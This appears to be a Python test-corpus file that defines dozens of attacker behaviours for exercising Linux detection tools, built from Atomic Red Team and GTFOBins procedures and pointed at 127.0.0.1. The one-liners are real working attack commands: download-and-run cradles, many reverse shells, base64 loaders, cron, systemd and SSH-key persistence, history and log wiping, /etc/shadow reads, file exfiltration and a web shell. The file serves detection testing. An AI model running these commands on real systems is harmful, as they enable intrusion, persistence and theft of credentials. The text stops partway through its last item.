"""Attacker behaviours, safe to run on a shared root machine.

Written for this project from public procedure descriptions: Atomic Red Team's Linux
atomics (MIT), Falco's event-generator actions (Apache-2.0) and GTFOBins. Each runs
real programs (skipped, with the reason, when one is missing), talks to 127.0.0.1
only, lasts under 5 s, and undoes what it changed in its `cleanup` (files in /tmp,
/dev/shm, /var/tmp, /etc/cron.d, /etc/profile.d, /etc/systemd/system, users). HOME is
the item's own directory, so keys, rc files and history are never the real ones.
Downloads are the harness's harmless payloads (`servers.py`): `id`, `uname -a`,
`hostname`, or a copy of `id`. Miners are copies of perl under a miner's name with a
stratum argv, mining nothing.

How lines run (see model.py): typed in a `bash` reading them from a pipe, so each
external program is exec'd with its own argv, and builtins leave no trace. Where a
technique arrives as one command (an exploit, a web shell, Atomic's `sh -c`
executor), it is written as that command.
"""

from __future__ import annotations

import base64

from .model import Item


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# a harmless stage two, as attackers encode it
B64_SH = _b64("id; uname -a; hostname")
B64_PY = _b64("import os; os.system('id; uname -a')")
B64_PL = _b64('system("id; uname -a");')
ATTACKER_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGqJc4bYl0M2m8vQ4o0p2m3R0eJm0fX3wz1rDk4Zy6Xh"
    " corpus@127.0.0.1"
)
WALLET = (
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3Xjr"
    "pDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
)
T = "/tmp/.de-@TAG@"


def _userdel(name: str) -> str:
    """Cleanup lines removing a user, retried while another tool holds the passwd lock."""
    return (
        f"for i in 1 2 3 4 5 6 7 8 9 10; do\n"
        f"  getent passwd {name} > /dev/null || break\n"
        f"  userdel {name} && break\n"
        f"  sleep 0.5\n"
        f"done\n"
    )  # prefix of what behaviours drop in /tmp (removed by their cleanup)


BEHAVIOURS: list[Item] = [
    # --- execution ------------------------------------------------------------------
    Item(
        "exec-curl-pipe-sh",
        "Script downloaded with curl piped into sh",
        "curl -fsSL @HTTP@/x.sh | sh\n",
        "execution",
        "T1059.004",
        needs=("curl",),
        source="Atomic T1059.004 (pipe-to-shell); Falco run_shell_untrusted",
    ),
    Item(
        "exec-wget-pipe-bash",
        "Script downloaded with wget piped into bash",
        "wget -q -O- @HTTP@/x.sh | bash\n",
        "execution",
        "T1059.004",
        needs=("wget",),
        source="Atomic T1059.004",
    ),
    Item(
        "exec-sh-c-curl-substitution",
        "sh -c running a downloaded script's text",
        'sh -c "$(curl -fsSL @HTTP@/x.sh)"\n',
        "execution",
        "T1059.004",
        needs=("curl",),
        source="common installer-style abuse; Atomic T1059.004",
    ),
    Item(
        "exec-script-in-tmp",
        "Script downloaded into /tmp and run with sh",
        f"curl -fsSL -o {T}.sh @HTTP@/x.sh\nsh {T}.sh\n",
        "execution",
        "T1059.004",
        cleanup=f"rm -f {T}.sh\n",
        gone=(f"{T}.sh",),
        needs=("curl",),
        source="Falco drop_and_execute_new_binary; Atomic T1105/T1059.004",
    ),
    Item(
        "exec-script-in-dev-shm",
        "Script downloaded into /dev/shm and run with bash",
        "wget -q -O /dev/shm/.de-@TAG@ @HTTP@/x.sh\nbash /dev/shm/.de-@TAG@\n",
        "execution",
        "T1059.004",
        cleanup="rm -f /dev/shm/.de-@TAG@\n",
        gone=("/dev/shm/.de-@TAG@",),
        needs=("wget",),
        source="Falco execution_from_dev_shm",
    ),
    Item(
        "exec-script-hidden-var-tmp",
        "Script in a hidden directory under /var/tmp, made executable and run",
        "mkdir -p /var/tmp/.de-@TAG@\n"
        "curl -fsSL -o /var/tmp/.de-@TAG@/.update @HTTP@/x.sh\n"
        "chmod +x /var/tmp/.de-@TAG@/.update\n"
        "/var/tmp/.de-@TAG@/.update\n",
        "defense-evasion",
        "T1564.001",
        cleanup="rm -rf /var/tmp/.de-@TAG@\n",
        gone=("/var/tmp/.de-@TAG@",),
        needs=("curl",),
        source="Atomic T1564.001; Falco create_hidden_files_or_directories",
    ),
    Item(
        "exec-python-exec-b64",
        "python3 -c exec() of base64-decoded code",
        f"python3 -c \"import base64; exec(base64.b64decode('{B64_PY}'))\"\n",
        "execution",
        "T1059.006",
        needs=("python3",),
        source="Atomic T1059.006; common loader one-liner",
    ),
    Item(
        "exec-python-pty-spawn",
        "Shell upgraded with python pty.spawn",
        "echo exit | python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n",
        "execution",
        "T1059.006",
        needs=("python3",),
        source="GTFOBins python shell; post-exploitation shell upgrade",
    ),
    Item(
        "exec-awk-system",
        "awk running a shell command (GTFOBins)",
        "awk 'BEGIN { system(\"id; uname -a\") }'\n",
        "execution",
        "T1059.004",
        needs=("awk",),
        source="GTFOBins awk shell",
    ),
    Item(
        "exec-find-exec-shell",
        "find -exec starting a shell (GTFOBins)",
        "find . -maxdepth 0 -exec /bin/sh -c 'id; uname -a' \\;\n",
        "execution",
        "T1059.004",
        needs=("find",),
        source="GTFOBins find shell",
    ),
    Item(
        "exec-node-child-process",
        "node -e running shell commands through child_process",
        'node -e \'require("child_process").execSync("id; uname -a", {stdio: "inherit"})\'\n',
        "execution",
        "T1059.007",
        needs=("node",),
        source="GTFOBins node shell",
    ),
    # --- defense evasion: decoding, obfuscation -------------------------------------
    Item(
        "evasion-base64-pipe-bash",
        "echo … | base64 -d | bash",
        f"echo {B64_SH} | base64 -d | bash\n",
        "defense-evasion",
        "T1140",
        needs=("base64",),
        source="Atomic T1140; Falco decoding_payload_in_container",
    ),
    Item(
        "evasion-base64-sh-c",
        "A one-liner decoding base64 into sh (as an exploit delivers it)",
        f"sh -c 'echo {B64_SH} | base64 --decode | sh'\n",
        "defense-evasion",
        "T1140",
        needs=("base64",),
        source="Atomic T1027 (base64 decode and execute)",
    ),
    Item(
        "evasion-hex-xxd-sh",
        "Hex-encoded command decoded with xxd into sh",
        "echo 69643b20756e616d65202d610a | xxd -r -p | sh\n",
        "defense-evasion",
        "T1140",
        needs=("xxd",),
        source="Atomic T1140 (hex decode)",
    ),
    Item(
        "evasion-rev-sh",
        "Reversed command text piped through rev into sh",
        "echo 'a- emanu ;di' | rev | sh\n",
        "defense-evasion",
        "T1027",
        needs=("rev",),
        source="Atomic T1027 style obfuscation",
    ),
    Item(
        "evasion-perl-eval-b64",
        "perl eval of base64-decoded code",
        f"perl -MMIME::Base64 -e 'eval(decode_base64(\"{B64_PL}\"))'\n",
        "defense-evasion",
        "T1027",
        needs=("perl",),
        source="common perl loader",
    ),
    # --- command and control: reverse shells ----------------------------------------
    Item(
        "c2-bash-dev-tcp",
        "bash -i reverse shell over /dev/tcp",
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1'\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        source="Atomic T1059.004; GTFOBins bash reverse shell",
    ),
    Item(
        "c2-bash-dev-tcp-fd-loop",
        "bash reverse shell on a /dev/tcp file descriptor with a read loop",
        "bash -c 'exec 5<>/dev/tcp/127.0.0.1/@PORT@; "
        "while read -r line <&5; do $line 2>&5 >&5; done'\n",
        "command-and-control",
        "T1095",
        serve="tcp",
        source="pentestmonkey-style bash reverse shell",
    ),
    Item(
        "c2-mkfifo-openssl",
        "mkfifo + openssl s_client encrypted reverse shell",
        f"mkfifo {T}.f\n"
        f"/bin/sh -i < {T}.f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:@PORT@ > {T}.f\n"
        f"rm -f {T}.f\n",
        "command-and-control",
        "T1573.002",
        serve="tls",
        cleanup=f"rm -f {T}.f\n",
        gone=(f"{T}.f",),
        needs=("openssl",),
        source="GTFOBins openssl reverse shell",
    ),
    Item(
        "c2-python-socket-shell",
        "python socket + dup2 + /bin/sh reverse shell",
        "python3 -c 'import socket,subprocess,os; s=socket.socket(); "
        's.connect(("127.0.0.1",@PORT@)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; '
        'subprocess.call(["/bin/sh","-i"])\'\n',
        "command-and-control",
        "T1059.006",
        serve="tcp",
        needs=("python3",),
        source="Atomic T1059.006; GTFOBins python reverse shell",
    ),
    Item(
        "c2-perl-socket-shell",
        "perl Socket reverse shell",
        'perl -e \'use Socket; $i="127.0.0.1"; $p=@PORT@; '
        'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); '
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S"); '
        'open(STDOUT,">&S"); open(STDERR,">&S"); exec("/bin/sh -i");};\'\n',
        "command-and-control",
        "T1059.004",
        serve="tcp",
        needs=("perl",),
        source="GTFOBins perl reverse shell",
    ),
    Item(
        "c2-nc-e",
        "netcat -e /bin/sh reverse shell",
        "nc -e /bin/sh 127.0.0.1 @PORT@\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        needs=("nc",),
        source="Atomic T1059.004; GTFOBins nc",
    ),
    Item(
        "c2-mkfifo-nc",
        "mkfifo + nc reverse shell (netcat without -e)",
        f"rm -f {T}.n; mkfifo {T}.n\n"
        f"cat {T}.n | /bin/sh -i 2>&1 | nc 127.0.0.1 @PORT@ > {T}.n\n"
        f"rm -f {T}.n\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        cleanup=f"rm -f {T}.n\n",
        gone=(f"{T}.n",),
        needs=("nc",),
        source="GTFOBins nc reverse shell",
    ),
    Item(
        "c2-socat-exec",
        "socat reverse shell with exec:",
        "socat tcp:127.0.0.1:@PORT@ exec:'/bin/sh -i',stderr\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        needs=("socat",),
        source="GTFOBins socat reverse shell",
    ),
    Item(
        "c2-php-fsockopen",
        "php fsockopen reverse shell",
        'php -r \'$s=fsockopen("127.0.0.1",@PORT@); exec("/bin/sh -i <&3 >&3 2>&3");\'\n',
        "command-and-control",
        "T1059.004",
        serve="tcp",
        needs=("php",),
        source="GTFOBins php reverse shell",
    ),
    Item(
        "c2-ruby-tcpsocket",
        "ruby TCPSocket reverse shell",
        'ruby -rsocket -e \'f=TCPSocket.open("127.0.0.1",@PORT@).to_i; '
        'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'\n',
        "command-and-control",
        "T1059.004",
        serve="tcp",
        needs=("ruby",),
        source="GTFOBins ruby reverse shell",
    ),
    Item(
        "c2-gawk-inet",
        "gawk /inet/tcp reverse shell",
        'gawk \'BEGIN { s = "/inet/tcp/0/127.0.0.1/@PORT@"; '
        "while ((s |& getline c) > 0) { while ((c |& getline) > 0) print $0 |& s; close(c) } }'\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        needs=("gawk",),
        source="GTFOBins gawk reverse shell",
    ),
    Item(
        "c2-node-net-shell",
        "node net.connect piped into /bin/sh",
        'node -e \'const n=require("net"),c=require("child_process"); '
        'const s=n.connect(@PORT@,"127.0.0.1",()=>{const sh=c.spawn("/bin/sh",[]); '
        's.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); sh.on("exit",()=>s.end())})\'\n',
        "command-and-control",
        "T1059.007",
        serve="tcp",
        needs=("node",),
        source="GTFOBins node reverse shell",
    ),
    # --- persistence ----------------------------------------------------------------
    Item(
        "persist-cron-d-tee",
        "A job written into /etc/cron.d with tee",
        "echo '0 0 31 2 * root /bin/true' | tee /etc/cron.d/de-corpus-@TAG@\n",
        "persistence",
        "T1053.003",
        requires=("root",),
        cleanup="rm -f /etc/cron.d/de-corpus-@TAG@\n",
        gone=("/etc/cron.d/de-corpus-@TAG@",),
        source="Atomic T1053.003 (cron.d); Falco schedule_cron_jobs",
    ),
    Item(
        "persist-cron-d-sh-c",
        "A one-liner writing a cron.d job (as an exploit delivers it)",
        "sh -c \"echo '0 0 31 2 * root /bin/sh -c id' > /etc/cron.d/.de-corpus-@TAG@\"\n",
        "persistence",
        "T1053.003",
        requires=("root",),
        cleanup="rm -f /etc/cron.d/.de-corpus-@TAG@\n",
        gone=("/etc/cron.d/.de-corpus-@TAG@",),
        source="Atomic T1053.003",
    ),
    Item(
        "persist-systemd-unit",
        "A systemd service unit written and enabled",
        "printf '[Unit]\\nDescription=update\\n[Service]\\nExecStart=/bin/true\\n"
        "[Install]\\nWantedBy=multi-user.target\\n' "
        "| tee /etc/systemd/system/de-corpus-@TAG@.service\n"
        "systemctl enable de-corpus-@TAG@.service\n",
        "persistence",
        "T1543.002",
        requires=("root",),
        needs=("systemctl",),
        cleanup="systemctl disable de-corpus-@TAG@.service\n"
        "rm -f /etc/systemd/system/de-corpus-@TAG@.service\n",
        gone=(
            "/etc/systemd/system/de-corpus-@TAG@.service",
            "/etc/systemd/system/multi-user.target.wants/de-corpus-@TAG@.service",
        ),
        source="Atomic T1543.002",
    ),
    Item(
        "persist-useradd",
        "A local account created with useradd",
        "useradd -M -s /bin/bash de@TAG@\n",
        "persistence",
        "T1136.001",
        requires=("root",),
        needs=("useradd", "userdel"),
        cleanup=_userdel("de@TAG@"),
        gone=("user:de@TAG@",),
        source="Atomic T1136.001; Falco user_mgmt_binaries",
    ),
    Item(
        "persist-authorized-keys-tee",
        "An attacker's key appended to authorized_keys with tee",
        f"mkdir -p ~/.ssh\necho '{ATTACKER_KEY}' | tee -a ~/.ssh/authorized_keys\n",
        "persistence",
        "T1098.004",
        source="Atomic T1098.004; Falco adding_ssh_keys_to_authorized_keys",
    ),
    Item(
        "persist-authorized-keys-sh-c",
        "A one-liner appending a key to authorized_keys",
        f"sh -c \"mkdir -p $HOME/.ssh && echo '{ATTACKER_KEY}' >> $HOME/.ssh/authorized_keys\"\n",
        "persistence",
        "T1098.004",
        source="Atomic T1098.004",
    ),
    Item(
        "persist-bashrc-append",
        "A download cradle appended to ~/.bashrc",
        "echo 'curl -fsSL @HTTP@/x.sh | sh' | tee -a ~/.bashrc\n",
        "persistence",
        "T1546.004",
        source="Atomic T1546.004; Falco modify_shell_configuration_file",
    ),
    Item(
        "persist-profile-d",
        "A script dropped into /etc/profile.d",
        "cp @WORK@/motd.sh /etc/profile.d/de-corpus-@TAG@.sh\n",
        "persistence",
        "T1546.004",
        requires=("root",),
        setup="printf 'true\\n' > @WORK@/motd.sh\n",
        cleanup="rm -f /etc/profile.d/de-corpus-@TAG@.sh\n",
        gone=("/etc/profile.d/de-corpus-@TAG@.sh",),
        source="Atomic T1546.004 (/etc/profile.d)",
    ),
    Item(
        "persist-web-shell-node",
        "A web application running the shell commands it is sent",
        "node @WORK@/app.js &\n"
        "while [ ! -s @WORK@/port ]; do sleep 0.1; done\n"
        'curl -s "http://127.0.0.1:$(< @WORK@/port)/?cmd=id%3Buname%20-a"\n'
        "wait\n",
        "persistence",
        "T1505.003",
        setup="cat > @WORK@/app.js <<'EOF'\n"
        "const http = require('http'), cp = require('child_process'), fs = require('fs');\n"
        "const s = http.createServer((q, r) => {\n"
        "  const cmd = new URL(q.url, 'http://127.0.0.1').searchParams.get('cmd');\n"
        "  r.end(cp.execSync(cmd));\n"
        "  setTimeout(() => process.exit(0), 50);\n"
        "});\n"
        "s.listen(0, '127.0.0.1',\n"
        "  () => fs.writeFileSync('@WORK@/port', String(s.address().port)));\n"
        "EOF\n",
        needs=("node", "curl"),
        source="Atomic T1505.003 (web shell); Falco run_shell_untrusted",
    ),
    # --- privilege escalation ------------------------------------------------------
    Item(
        "privesc-setuid-shell",
        "A setuid copy of bash run by an unprivileged user",
        f"cp /bin/bash {T}-sh\nchmod 4755 {T}-sh\nsu nobody -s /bin/sh -c '{T}-sh -p -c id'\n",
        "privilege-escalation",
        "T1548.001",
        requires=("root", "nobody"),
        needs=("su",),
        cleanup=f"rm -f {T}-sh\n",
        gone=(f"{T}-sh",),
        source="Atomic T1548.001; Falco non_sudo_setuid, set_setuid_or_setgid_bit",
    ),
    Item(
        "privesc-nsenter-host",
        "nsenter into PID 1's namespaces (container escape)",
        "nsenter -t 1 -m -u -i -n -p -- /bin/sh -c 'id; hostname'\n",
        "privilege-escalation",
        "T1611",
        requires=("root",),
        needs=("nsenter",),
        source="Atomic T1611; Falco change_namespace_privileges_via_unshare",
    ),
    Item(
        "privesc-gdb-attach",
        "gdb attached to a running process",
        "sleep 20 &\ngdb -q -p $! -batch -ex 'info registers rip'\nkill $!\n",
        "privilege-escalation",
        "T1055.008",
        needs=("gdb",),
        requires=("ptrace",),
        source="Falco ptrace_attached_to_process; Atomic T1055.008",
    ),
    Item(
        "privesc-strace-attach",
        "strace attached to a running process",
        "sleep 20 &\ntimeout 1 strace -p $!\nkill $!\n",
        "privilege-escalation",
        "T1055.008",
        needs=("strace",),
        requires=("ptrace",),
        source="Falco ptrace_attached_to_process",
    ),
    Item(
        "privesc-ld-preload-tmp",
        "A library in /tmp preloaded with LD_PRELOAD",
        f"cp -L /lib/$(uname -m)-linux-gnu/libm.so.6 {T}.so\nLD_PRELOAD={T}.so ls /\n",
        "privilege-escalation",
        "T1574.006",
        cleanup=f"rm -f {T}.so\n",
        gone=(f"{T}.so",),
        source="Atomic T1574.006 (LD_PRELOAD); Falco potential_local_privilege_escalation",
    ),
    # --- defense evasion ------------------------------------------------------------
    Item(
        "evasion-history-rm",
        "Shell history deleted",
        "rm -f ~/.bash_history\n",
        "defense-evasion",
        "T1070.003",
        setup="printf 'ls\\nid\\n' > ~/.bash_history\n",
        source="Atomic T1070.003 (rm); Falco delete_or_rename_shell_history",
    ),
    Item(
        "evasion-history-devnull-link",
        "Shell history linked to /dev/null",
        "ln -sf /dev/null ~/.bash_history\n",
        "defense-evasion",
        "T1070.003",
        source="Atomic T1070.003 (ln /dev/null)",
    ),
    Item(
        "evasion-history-clear-sh-c",
        "history -c with HISTFILE unset, as Atomic's sh executor runs it",
        "bash -c 'unset HISTFILE; export HISTFILESIZE=0; history -c'\n",
        "defense-evasion",
        "T1070.003",
        source="Atomic T1070.003 (clear history of a bunch of shells)",
    ),
    Item(
        "evasion-timestomp-touch-t",
        "Timestomping with touch -t",
        "touch -t 201801011200 @WORK@/implant\n",
        "defense-evasion",
        "T1070.006",
        setup="printf 'x' > @WORK@/implant\n",
        source="Atomic T1070.006",
    ),
    Item(
        "evasion-timestomp-touch-r",
        "Timestomping with touch -r a system binary",
        "touch -r /bin/ls @WORK@/implant\n",
        "defense-evasion",
        "T1070.006",
        setup="printf 'x' > @WORK@/implant\n",
        source="Atomic T1070.006",
    ),
    Item(
        "evasion-chmod-777-recursive",
        "Permissions opened with chmod -R 777",
        "chmod -R 777 @WORK@/site\n",
        "defense-evasion",
        "T1222.002",
        setup="mkdir -p @WORK@/site/a && printf 'x' > @WORK@/site/a/f\n",
        source="Atomic T1222.002",
    ),
    Item(
        "evasion-truncate-wtmp",
        "Login records truncated (/var/log/wtmp)",
        # only once the copy is made (`[` is a builtin: it shows nowhere)
        "[ -f @WORK@/wtmp.saved ] && truncate -s 0 /var/log/wtmp\n",
        "defense-evasion",
        "T1070.002",
        requires=("root", "path:/var/log/wtmp"),
        setup="cp -p /var/log/wtmp @WORK@/wtmp.saved\n",
        cleanup="cp -p @WORK@/wtmp.saved /var/log/wtmp\n",
        needs=("truncate",),
        source="Atomic T1070.002",
    ),
    Item(
        "evasion-memfd-exec",
        "Fileless execution from a memfd (python)",
        "python3 -c \"import os; f = os.memfd_create('x', 0); "
        "os.write(f, open('/bin/sleep', 'rb').read()); "
        "os.execv('/proc/self/fd/%d' % f, ['kworker', '1'])\"\n",
        "defense-evasion",
        "T1620",
        needs=("python3",),
        source="Falco fileless_execution_via_memfd_create",
    ),
    Item(
        "evasion-deleted-binary",
        "A binary run from /tmp then deleted while it runs",
        f"cp /bin/sleep {T}-upd\n{T}-upd 2 &\nsleep 0.5\nrm -f {T}-upd\nsleep 1\nwait\n",
        "defense-evasion",
        "T1070.004",
        cleanup=f"rm -f {T}-upd\n",
        gone=(f"{T}-upd",),
        source="Atomic T1070.004; Falco drop_and_execute_new_binary",
    ),
    # --- credential access ----------------------------------------------------------
    Item(
        "cred-cat-shadow",
        "/etc/shadow read",
        "cat /etc/shadow\n",
        "credential-access",
        "T1003.008",
        requires=("root",),
        source="Atomic T1003.008; Falco read_sensitive_file_untrusted",
    ),
    Item(
        "cred-find-private-keys",
        "A search for SSH private keys",
        "find /root /home /etc -maxdepth 4 -name 'id_rsa*' 2>/dev/null\n",
        "credential-access",
        "T1552.004",
        source="Atomic T1552.004; Falco search_private_keys_or_passwords",
    ),
    Item(
        "cred-grep-passwords",
        "A recursive grep for passwords",
        "grep -rIil 'password' /etc 2>/dev/null\n",
        "credential-access",
        "T1552.001",
        source="Atomic T1552.001; Falco search_private_keys_or_passwords",
    ),
    # --- discovery ------------------------------------------------------------------
    Item(
        "disc-system-burst",
        "System discovery burst: id, uname, hostname, os-release",
        "id\nuname -a\nhostname\ncat /etc/os-release\nwhoami\n",
        "discovery",
        "T1082",
        source="Atomic T1082",
    ),
    Item(
        "disc-network-burst",
        "Network discovery burst: addresses, routes, resolvers, sockets",
        "ip addr\nip route\ncat /etc/resolv.conf\nss -antp\nid\n",
        "discovery",
        "T1016",
        source="Atomic T1016, T1049",
    ),
    Item(
        "disc-process-burst",
        "Process discovery burst",
        "ps aux\nps -ef --forest\nid\nuname -a\n",
        "discovery",
        "T1057",
        source="Atomic T1057",
    ),
    # --- collection, exfiltration ---------------------------------------------------
    Item(
        "collect-tar-etc",
        "/etc archived into /tmp",
        f"tar czf {T}-etc.tgz /etc 2>/dev/null\n",
        "collection",
        "T1560.001",
        cleanup=f"rm -f {T}-etc.tgz\n",
        gone=(f"{T}-etc.tgz",),
        source="Atomic T1560.001",
    ),
    Item(
        "exfil-curl-form-upload",
        "A file uploaded with curl -F to a listener",
        "curl -s -F 'file=@/etc/passwd' @HTTP@/upload\n",
        "exfiltration",
        "T1048.003",
        needs=("curl",),
        source="Atomic T1048.003",
    ),
    # --- impact ---------------------------------------------------------------------
    Item(
        "impact-xmrig-stratum",
        "A miner named xmrig with a stratum pool argument",
        f"mkdir -p {T}-m\ncp /usr/bin/perl {T}-m/xmrig\n"
        f"{T}-m/xmrig -e 'sleep 1' -- -o stratum+tcp://127.0.0.1:3333 -u {WALLET} "
        "-p x --donate-level 1\n",
        "impact",
        "T1496",
        cleanup=f"rm -rf {T}-m\n",
        gone=(f"{T}-m",),
        needs=("perl",),
        source="Falco detect_crypto_miners_using_the_stratum_protocol; Atomic T1496",
    ),
    # --- initial access -------------------------------------------------------------
    Item(
        "initial-cgi-command-injection",
        "A web application's CGI script running an injected command",
        "cd /srv/de-corpus-@TAG@\n"
        "@PY@ -m http.server --cgi --bind 127.0.0.1 @FREEPORT@ > @WORK@/server.log 2>&1 &\n"
        "for i in 1 2 3 4 5 6 7 8 9 10; do\n"
        "  curl -sf 'http://127.0.0.1:@FREEPORT@/cgi-bin/ping.cgi?127.0.0.1;id;uname' && break\n"
        "  sleep 0.2\n"
        "done\n"
        "kill $!\n",
        "initial-access",
        "T1190",
        # a web root nobody can read: http.server runs CGI scripts as nobody
        setup="mkdir -p /srv/de-corpus-@TAG@/cgi-bin\n"
        "printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\n"
        'sh -c "echo pinging $QUERY_STRING"\\n'
        "' > /srv/de-corpus-@TAG@/cgi-bin/ping.cgi\n"
        "chmod 755 /srv/de-corpus-@TAG@ /srv/de-corpus-@TAG@/cgi-bin/ping.cgi\n",
        cleanup="rm -rf /srv/de-corpus-@TAG@\n",
        gone=("/srv/de-corpus-@TAG@",),
        requires=("root", "path:/srv", "nobody"),
        needs=("curl",),
        source="Atomic T1190-style command injection; Falco run_shell_untrusted",
    ),
    Item(
        "initial-su-service-account",
        "A shell opened as a service account (nobody) with su",
        "su nobody -s /bin/sh -c 'id; uname -a; cat /etc/passwd > /dev/null'\n",
        "initial-access",
        "T1078.003",
        requires=("root", "nobody"),
        needs=("su",),
        source="Atomic T1078.003; Falco system_user_interactive",
    ),
    # --- lateral movement -----------------------------------------------------------
    Item(
        "lateral-ssh-no-host-check",
        "ssh to another host with host key checking off",
        "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
        "-o ConnectTimeout=3 -p @PORT@ root@127.0.0.1 'id; uname -a' < /dev/null\n",
        "lateral-movement",
        "T1021.004",
        serve="tcp",
        needs=("ssh",),
        source="Atomic T1021.004",
    ),
    Item(
        "lateral-scp-tool",
        "A tool copied to another host with scp",
        "scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
        "-o ConnectTimeout=3 -P @PORT@ /usr/bin/id root@127.0.0.1:/tmp/.x < /dev/null\n",
        "lateral-movement",
        "T1570",
        serve="tcp",
        needs=("scp",),
        source="Atomic T1570 (scp); Falco launch_remote_file_copy_tools",
    ),
    Item(
        "lateral-ssh-key-reuse",
        "Private keys found and tried against hosts in known_hosts",
        "for key in ~/.ssh/id_*; do\n"
        "  case $key in *.pub) continue;; esac\n"
        "  ssh -i $key -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=3 "
        "-p @PORT@ root@127.0.0.1 id < /dev/null\n"
        "done\n",
        "lateral-movement",
        "T1021.004",
        serve="tcp",
        setup="mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519\n",
        needs=("ssh", "ssh-keygen"),
        source="Atomic T1552.004 + T1021.004 (key reuse)",
    ),
    # --- execution, more shapes -----------------------------------------------------
    Item(
        "exec-download-binary-tmp",
        "A binary downloaded into /tmp, made executable and run",
        f"curl -fsSL -o {T}-agent @HTTP@/tool\nchmod 755 {T}-agent\n{T}-agent\n",
        "command-and-control",
        "T1105",
        cleanup=f"rm -f {T}-agent\n",
        gone=(f"{T}-agent",),
        needs=("curl",),
        source="Atomic T1105; Falco drop_and_execute_new_binary",
    ),
    Item(
        "exec-python-urllib-download",
        "python urllib fetching a payload into /dev/shm, then run",
        '@PY@ -c "import urllib.request as u; '
        "u.urlretrieve('@HTTP@/x.sh', '/dev/shm/.de-@TAG@-py')\"\n"
        "sh /dev/shm/.de-@TAG@-py\n",
        "command-and-control",
        "T1105",
        cleanup="rm -f /dev/shm/.de-@TAG@-py\n",
        gone=("/dev/shm/.de-@TAG@-py",),
        source="Atomic T1105 (python download)",
    ),
    Item(
        "exec-bash-process-substitution",
        "bash <(curl …): a downloaded script run through process substitution",
        "bash <(curl -fsSL @HTTP@/x.sh)\n",
        "execution",
        "T1059.004",
        needs=("curl",),
        source="Atomic T1059.004 variant",
    ),
    Item(
        "exec-perl-system",
        "perl -e exec of a shell (GTFOBins)",
        'perl -e \'exec "/bin/sh", "-c", "id; uname -a";\'\n',
        "execution",
        "T1059.004",
        needs=("perl",),
        source="GTFOBins perl shell",
    ),
    # --- command and control, more shapes ----------------------------------------------
    Item(
        "c2-bash-dev-udp",
        "sh -i reverse shell over /dev/udp",
        "timeout 2 bash -c 'sh -i >& /dev/udp/127.0.0.1/@FREEPORT@ 0>&1'\n",
        "command-and-control",
        "T1095",
        source="GTFOBins bash (UDP reverse shell)",
    ),
    Item(
        "c2-sh-c-dev-tcp-exploit",
        "A reverse shell one-liner as an exploit delivers it (sh -c, exec 196<>/dev/tcp)",
        "sh -c 'bash -c \"0<&196; exec 196<>/dev/tcp/127.0.0.1/@PORT@; sh <&196 >&196 2>&196\"'\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        source="pentestmonkey reverse shell cheat sheet",
    ),
    Item(
        "c2-python-pty-reverse",
        "python reverse shell with pty.spawn",
        "python3 -c 'import socket,os,pty; s=socket.socket(); "
        's.connect(("127.0.0.1",@PORT@)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; '
        'pty.spawn("/bin/sh")\'\n',
        "command-and-control",
        "T1059.006",
        serve="tcp",
        needs=("python3",),
        source="GTFOBins python reverse shell (pty)",
    ),
    Item(
        "c2-openssl-sh-c",
        "openssl s_client reverse shell delivered as one command",
        f"sh -c 'mkfifo {T}.o; /bin/sh -i < {T}.o 2>&1 | "
        f"openssl s_client -quiet -connect 127.0.0.1:@PORT@ > {T}.o; rm -f {T}.o'\n",
        "command-and-control",
        "T1573.002",
        serve="tls",
        cleanup=f"rm -f {T}.o\n",
        gone=(f"{T}.o",),
        needs=("openssl",),
        source="GTFOBins openssl reverse shell",
    ),
    Item(
        "c2-data-in-url",
        "Host data base64-encoded into a URL",
        'curl -s "@HTTP@/beacon?d=$(hostname | base64 -w0)&u=$(id -un)"\n',
        "command-and-control",
        "T1132.001",
        needs=("curl", "base64"),
        source="Atomic T1132.001",
    ),
    # --- persistence, more --------------------------------------------------------------
    Item(
        "persist-user-with-password",
        "An account created, given a password and added to the sudo group",
        "useradd -M -s /bin/bash de@TAG@p\n"
        "echo 'de@TAG@p:S3cure!pass' | chpasswd\n"
        "usermod -aG sudo de@TAG@p\n",
        "persistence",
        "T1098",
        requires=("root",),
        needs=("useradd", "chpasswd", "usermod", "userdel"),
        cleanup=_userdel("de@TAG@p"),
        gone=("user:de@TAG@p",),
        source="Atomic T1136.001, T1098",
    ),
    Item(
        "persist-setuid-bit-tmp",
        "The setuid bit set on a shell copy in /var/tmp",
        # mode 4700 in the end: the setuid copy is never runnable by anyone but root
        "cp /bin/sh /var/tmp/.de-@TAG@-s\nchmod 700 /var/tmp/.de-@TAG@-s\n"
        "chmod u+s /var/tmp/.de-@TAG@-s\n",
        "persistence",
        "T1548.001",
        cleanup="rm -f /var/tmp/.de-@TAG@-s\n",
        gone=("/var/tmp/.de-@TAG@-s",),
        source="Atomic T1548.001; Falco set_setuid_or_setgid_bit",
    ),
    Item(
        "persist-rc-local-sh-c",
        "A payload appended to a boot script (rc.local-style) with sh -c",
        "sh -c \"echo 'curl -fsSL @HTTP@/x.sh | sh' >> @WORK@/etc/rc.local\"\n",
        "persistence",
        "T1037.004",
